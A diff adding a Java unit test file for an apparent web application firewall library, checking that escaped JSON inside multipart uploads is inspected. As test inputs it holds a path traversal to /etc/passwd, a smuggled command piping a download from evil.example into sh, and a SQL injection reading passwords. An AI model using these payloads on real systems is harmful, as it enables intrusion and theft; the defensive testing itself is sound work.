@@ -1,0 +1,79 @@
+package dev.bulwark.core;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.bulwark.core.config.BulwarkConfig;
+import java.nio.charset.StandardCharsets;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Multipart parts whose text is JSON, read as an application that parses them reads them: their
+ * escapes decoded, each key and string inspected by its JSON pointer.
+ */
+class JsonPartsTest {
+
+    private static final Bulwark DEFAULTS = Bulwark.create(BulwarkConfig.defaults());
+    private static final String ESCAPED_TRAVERSAL = "{\"p\":\"..\\u002f..\\u002f..\\u002fetc\\u002fpasswd\"}";
+
+    /** A multipart body of one part per {@code parts} entry: its headers after the name, then its content. */
+    private static HttpRequest multipart(String... parts) {
+        StringBuilder body = new StringBuilder();
+        for (int i = 0; i < parts.length; i += 2) {
+            body.append("--b\r\nContent-Disposition: form-data; name=\"part").append(i / 2).append('"')
+                    .append(parts[i]).append("\r\n\r\n").append(parts[i + 1]).append("\r\n");
+        }
+        body.append("--b--\r\n");
+        return HttpRequest.builder("POST", "/upload").remoteAddress("127.0.0.1")
+                .header("Content-Type", "multipart/form-data; boundary=b")
+                .body(body.toString().getBytes(StandardCharsets.UTF_8)).build();
+    }
+
+    private static final String JSON_FILE = "; filename=\"meta.json\"\r\nContent-Type: application/json";
+
+    @Test
+    void blocksTraversalHiddenByEscapesInAJsonFilePart() {
+        Decision decision = DEFAULTS.evaluate(multipart(JSON_FILE, ESCAPED_TRAVERSAL));
+
+        assertThat(decision.blocked()).isTrue();
+        assertThat(decision.blockingFindings()).anySatisfy(f ->
+                assertThat(f.location()).isEqualTo(Location.value(Source.JSON, "/p")));
+    }
+
+    @Test
+    void blocksShellCommandHiddenByEscapesInAJsonTextField() {
+        Decision decision = DEFAULTS.evaluate(multipart("", "{\"cmd\":\"x && \\u0063url http://evil.example/x | sh\"}"));
+
+        assertThat(decision.blocked()).isTrue();
+        assertThat(decision.blockingFindings().get(0).ruleKey()).isEqualTo("UNIXCMD");
+    }
+
+    @Test
+    void refusesAJsonPartWhoseEscapesLeaveASurrogateUnpaired() {
+        Decision decision = DEFAULTS.evaluate(multipart(JSON_FILE, "{\"q\":\"1 UN\\ud800ION SELECT password FROM users\"}"));
+
+        assertThat(decision.blocked()).isTrue();
+        assertThat(decision.blockingFindings().get(0).blockType()).isEqualTo(BlockType.MALFORMED);
+    }
+
+    @Test
+    void allowsAJsonPartOfOrdinaryValues() {
+        Decision decision = DEFAULTS.evaluate(multipart(JSON_FILE,
+                "{\"name\":\"O\\u0027Brien\",\"tags\":[\"garden\",\"oak\"],\"note\":\"Call before delivery\"}"));
+
+        assertThat(decision.findings()).isEmpty();
+    }
+
+    @Test
+    void inspectsAFieldThatOnlyStartsLikeJsonAsTextWithoutRefusingIt() {
+        assertThat(DEFAULTS.evaluate(multipart("", "[draft] notes on the {meeting}")).allowed()).isTrue();
+    }
+
+    @Test
+    void parsesJsonPartsOnlyUntilTheirValuesTogetherPassTheElementLimit() {
+        Bulwark few = Bulwark.create(BulwarkConfig.fromYaml("limits: {json: {elements: 4}}"));
+        String fourValues = "{\"a\":\"x\",\"b\":\"y\"}";
+
+        assertThat(few.evaluate(multipart(JSON_FILE, ESCAPED_TRAVERSAL)).blocked()).isTrue();
+        assertThat(few.evaluate(multipart(JSON_FILE, fourValues, JSON_FILE, ESCAPED_TRAVERSAL)).blocked()).isFalse();
+    }
+}
